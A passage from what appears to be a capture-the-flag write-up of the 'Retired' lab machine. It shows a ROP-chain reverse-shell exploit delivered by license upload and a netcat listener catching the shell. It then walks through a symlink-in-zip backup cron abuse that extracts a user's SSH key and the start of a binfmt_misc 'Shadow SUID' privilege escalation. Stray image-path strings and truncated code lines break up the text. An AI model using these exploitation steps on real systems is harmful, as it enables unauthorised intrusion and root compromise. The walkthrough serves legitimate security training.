buf += pop_rsi + p64(stack_size)      # RSI = length of memorybuf += pop_rdx + p64(7)               # RDX = permissions; 7 = rwx
buf += mprotect                       # call mprotect
buf += jmp_rsp                        # jmp to stack
buf += sc                             # rev shell

# send exploit via license file upload
resp =, files = {'licensefile': buf })


Running python returns a shell:


The shell from this shellcode doesn’t show a prompt, so it’s important to have the -v in the nc so it reports the connection. I’ll upgrade with the script shell upgrade:

oxdf@hacky$ nc -lnvp 443
Listening on 443
Connection received on 45236
script /dev/null -c bash
Script started, output log file is '/dev/null'.
www-data@retired:/var/www$ ^Z
[1]+  Stopped                 nc -lnvp 443
oxdf@hacky$ stty raw -echo ; fg
nc -lnvp 443
reset: unknown terminal type unknown
Terminal type? screen
www-data@retired:/var/www$ id
uid=33(www-data) gid=33(www-data) groups=33(www-data)

Shell as dev



There’s one user with a home directory on the box, dev:

www-data@retired:/var/www$ ls -l /home/
total 4
drwx--- 6 dev dev 4096 Mar 11 14:36 dev

www-data has no access, but that’s where I’ll find user.txt.


The shell connects back running from /var/www. In this directory, there are some interesting files:

www-data@retired:/var/www$ ls  license.sqlite  html

Every minute, a new file seems to be created, and the oldest one is deleted:

www-data@retired:/var/www$ ls  license.sqlite  html

There must be a cron doing this. I’ll find the file using grep:

www-data@retired:/var/www$ grep -r '\' / 2>/dev/null
/usr/bin/webbackup:DST="/var/www/$(date +%Y-%m-%d_%H-%M-%S)"

While this command takes a couple minutes to complete, it finds the file in only a few seconds.

I’ll also note that thebackups are owned by dev, which suggests the cron runs as dev.


This file is a Bash script:

www-data@retired:/var/www$ file /usr/bin/webbackup
/usr/bin/webbackup: Bourne-Again shell script, ASCII text executable

It starts with the shebang and uses set to make Bash behave a bit more rationally:

set -euf -o pipefail

From the man page (this is not important to understand to solve Retired, but worth learning anyway):

  • -e - Exit on any failed command• -u - consider unset variables an error
  • -f - disable globbing (using wildcards like * in filenames)
  • -o pipefail - if any command in a pipeline fails (has a non-zero return), the last non-zero return is the return for the entire line

Then it changes into /var/www, defines SRC and DST, removes SRC, and generates it using zip:

cd /var/www/

DST="/var/www/$(date +%Y-%m-%d_%H-%M-%S)"

/usr/bin/rm --force -- "$DST"
/usr/bin/zip --recurse-paths "$DST" "$SRC"

The DST is the time-based filename observed earlier. I’m not completely sure why it’s removed first, but it seems like an abundance of caution. --recurse-paths just makes this zip recursive, getting all folders and files in SRC.

Finally, there’s a loop to remove old backups:

/usr/bin/find /var/www/ -maxdepth 1 -name '*.zip' -print0 \
    | sort --zero-terminated --numeric-sort --reverse \
    | while IFS= read -r -d '' backup; do
        if [ "$KEEP" -le 0 ]; then
            /usr/bin/rm --force -- "$backup"

This loop gets all the .zip files in /var/www, sorts them, and then loops over them, each time decrementing $KEEP, which is initialized to 10 before the loop. If $KEEP is less than 0, it will delete the file, effectively keeping the most recent 11 files.

It’s a bit odd that I only see the most three (sometimes four) backups (I’ll go into this in Beyond Root).

Backup /home/dev

zip has an option, -y or --symlinks which:

For UNIX and VMS (V8.3 and later), store symbolic links as such in the zip archive, instead of compressing and storing the filereferred to by the link. This can avoid multiple copies of files being included in the archive as zip recurses the directory trees and accesses files directly and by links.

That suggests the default behavior is to follow symlinks and put the files they point to into the zip directly. I’ll abuse this by adding a symlink to /home/dev to /var/www/html:

www-data@retired:/var/www/html$ ln -s /home/dev/ .0xdf

The next time the cron runs, the backup is bigger:

www-data@retired:/var/www$ ls -l
total 2032
-rw-r--r-- 1 dev      www-data 505153 Jul 31 10:54
-rw-r--r-- 1 dev      www-data 505153 Jul 31 10:55
-rw-r--r-- 1 dev      www-data 505153 Jul 31 10:56
-rw-r--r-- 1 dev      www-data 529771 Jul 31 10:57
drwxrwsrwx 5 www-data www-data   4096 Jul 31 10:56 html-rw-r--r-- 1 www-data www-data  20480 Jul 30 09:51 license.sqlite

I’ll extract the backup into /dev/shm:

www-data@retired:/var/www$ unzip -d /dev/shm/

And dev’s homedir is there:

www-data@retired:/dev/shm/var/www/html/.0xdf$ ls -la
total 12
drwx--- 6 www-data www-data  180 Mar 11 14:36 .
drwxrwxrwx 6 www-data www-data  200 Jul 31 10:56 ..
-rw--- 1 www-data www-data  220 Aug  4  2021 .bash_logout
-rw--- 1 www-data www-data 3526 Aug  4  2021 .bashrc
drwxr-xr-x 3 www-data www-data   60 Mar 11 14:36 .local
-rw--- 1 www-data www-data  807 Aug  4  2021 .profile
drwx--- 2 www-data www-data  100 Mar 11 14:36 .ssh
drwx--- 2 www-data www-data  120 Mar 11 14:36 activate_license
drwx--- 3 www-data www-data  180 Mar 11 14:36 emuemu

Including an SSH key pair:

www-data@retired:/dev/shm/var/www/html/.0xdf$ ls  .ssh/
authorized_keys  id_rsaI’ll save the key and use it to get a shell as dev:

oxdf@hacky$ ssh -i ~/keys/retired-dev dev@
Linux retired 5.10.0-11-amd64 #1 SMP Debian 5.10.92-2 (2022-02-28) x86_64

Shell as root


Home Directory

There are two folders in dev’s homedir:

dev@retired:~$ ls
activate_license  emuemu  user.txtactivate_license is the software I already exploited to get a foothold. The source is here, as well as a compiled binary, and a Makefile:

dev@retired:~/activate_license$ ls
Makefile  activate_license  activate_license.c  activate_license.service

Makefile can be interesting because it shows how the binary is compiled:

CC     := gcc
CFLAGS := -g -std=c99 -Wall -Werror -Wextra -Wpedantic\
                   -Wconversion -Wsign-conversion \
                   -fno-stack-protector \
                   -m64 -pie -fPIE -fPIC \
                   -Wl,-z,noexecstack \
LDLIBS := -lsqlite3

SOURCE := activate_license.c

install: $(TARGET)
        install --mode 0755 $^ /usr/bin/
        install --mode 0644 $^.service /usr/lib/systemd/system
        systemctl daemon-reload
        systemctl enable --now $^.service

        rm -f -- $(TARGET)

But not much interesting here.


emuemu is a different project that was mentioned on the website. It has a few files:

dev@retired:~/emuemu$ find . -type f

The describes the project:

EMUEMU is the official software emulator for the handheld console OSTRICH.

After installation with `make install`, OSTRICH ROMs can be simply executed from the terminal.
For example the ROM named `rom` can be run with `./rom`.

emuemu doesn’t currently do anything:

#include <stdio.h>/* currently this is only a dummy implementation doing nothing */

int main(void) {
    puts("EMUEMU is still under development.");
    return 1;

reg_helper is a wrapper that takes from standard in and writes to /proc/sys/fs/binfmt_misc/register:

#define _GNU_SOURCE

#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/types.h>
#include <unistd.h>

int main(void) {
    char cmd[512] = { 0 };

    read(STDIN_FILENO, cmd, sizeof(cmd)); cmd[-1] = 0;

    int fd = open("/proc/sys/fs/binfmt_misc/register", O_WRONLY);
    if (-1 == fd)
    if (write(fd, cmd, strnlen(cmd,sizeof(cmd))) == -1)
    if (close(fd) == -1)

    return 0;

The Makefile with the install directive compiles reg_helper and installs it to /usr/lib/emuemu/reg_helper, and then sets the cap_dac_override capabilities on it, before using it to register Ostrich ROMs (I’ll detail that syntax next):

CC := gcc
CFLAGS := -std=c99 -Wall -Werror -Wextra -Wpedantic -Wconversion -Wsign-conversion

SOURCES := $(wildcard *.c)

.PHONY: install clean

install: $(TARGETS)
        @echo "[+] Installing program files"
        install --mode 0755 emuemu /usr/bin/
        mkdir --parent --mode 0755 /usr/lib/emuemu /usr/lib/binfmt.d
        install --mode 0750 --group devreg_helper /usr/lib/emuemu/
        setcap cap_dac_override=ep /usr/lib/emuemu/reg_helper

        @echo "[+] Register OSTRICH ROMs for execution with EMUEMU"
        echo ':EMUEMU:M::\x13\x37OSTRICH\x00ROM\x00::/usr/bin/emuemu:' \
                | tee /usr/lib/binfmt.d/emuemu.conf \
                | /usr/lib/emuemu/reg_helper

        rm -f -- $(TARGETS)

This clearly has to be run asroot, as it’s assigningcapabilities to a binary. cap_dac_override (from the capabilities man page) allows:

Bypass file read, write, and execute permission checks.
(DAC is an abbreviation of "discretionary access

That capability is set on the file on Retired:

dev@retired:~$ /usr/sbin/getcap /usr/lib/emuemu/reg_helper
/usr/lib/emuemu/reg_helper cap_dac_override=ep

So reg_helper can read and write any file it wants.

Abuse binfmt_misc

binfmt_misc Background

Miscellaneous Binary Format (or binfmt_misc) is a way to register certain file types with a program to run them. Each mapping takes either a file extension or magic bytes and an interpreter, and then whenever a file is invoked with ./file, if it matches that pattern, it will be passed to that interpreter.This serves a similar purpose to a shebang at the top of a script file.

binfmt_misc is managed from /proc/sys/fs/binfmt_misc. There are two files in that folder by default, register and status. The interface to create a new association is to write to register using a specific format, defined as:

  • name - the name of the binary format
  • type - either E for extension or M for magic
  • offset - number of bytes to scan to look for magic bytes (ignored for E)
  • magic - either the extension or the magic bytes signature
  • mask - a bitmask to define which bits to match on (ignored for E)
  • interpreter - the program that will run with thematching file as an argument
  • flags
    • P - leave argv[0] as the original file name
    • O - open the file and pass the file handle instead of the filename
    • C - set the process credentials based on the program rather than the interpreter (for SetUID)
    • F - make the kernel open the binary at config rather than at startup (to be available in mount namespaces and chroots as well).

EMUEMU Mapping

Looking at the Makefile, the string :EMUEMU:M::\x13\x37OSTRICH\x00ROM\x00::/usr/bin/emuemu: was passed. So it will be:

  • name - EMUEMU• using magic bytes
  • no offset
  • signature of \x13\x37OSTRICH\x00ROM\x00
  • no mask
  • interpreter of /usr/bin/emuemu

The EMUEMU file stores these configurations:

dev@retired:/proc/sys/fs/binfmt_misc$ cat EMUEMU
interpreter /usr/bin/emuemu
offset 0
magic 13374f53545249434800524f4d00

The example ROM file matches this siguature:

dev@retired:~/emuemu$ cat test/examplerom  | xxd
00000000: 1337 4f53 5452 4943 4800 524f 4d00 0a74  .7OSTRICH.ROM..t
00000010: 6869 7320 6973 2061 206d 696e 696d 616c  his is a minimal
00000020: 2072 6f6d 2077 6974 6820 6120 7661 6c69   rom with a vali
00000030: 6420 6669 6c65 2074 7970 6520 7369 676e  d file type sign
00000040: 6174 7572 650a                           ature.

When I run it, it runs emuemu:

dev@retired:~/emuemu$ test/examplerom
EMUEMU is still under development.
dev@retired:~/emuemu$ ./emuemu
EMUEMU is still under development.

In theory once emuemu is more mature, it will read the ROM file and act based on it. But for now, it just prints.

Exploitation StrategyThere are a few resources that show how to exploit this.

  • This YouTube video from HITB 2021 includes a section on abusing binfmt_misc, but for more complex situations (container breakouts).
  • SentinelOne has two blog posts about this technique, which they call “Shadow SUID”. The first lays out how this works. The second goes into exploiting it.

The idea is that we are going to use the C flag, to pull credentials from the program, not the interpreter. That means if I manage to run a SetUID binary, then I will get root privs and our handler running it.

I’ll need:

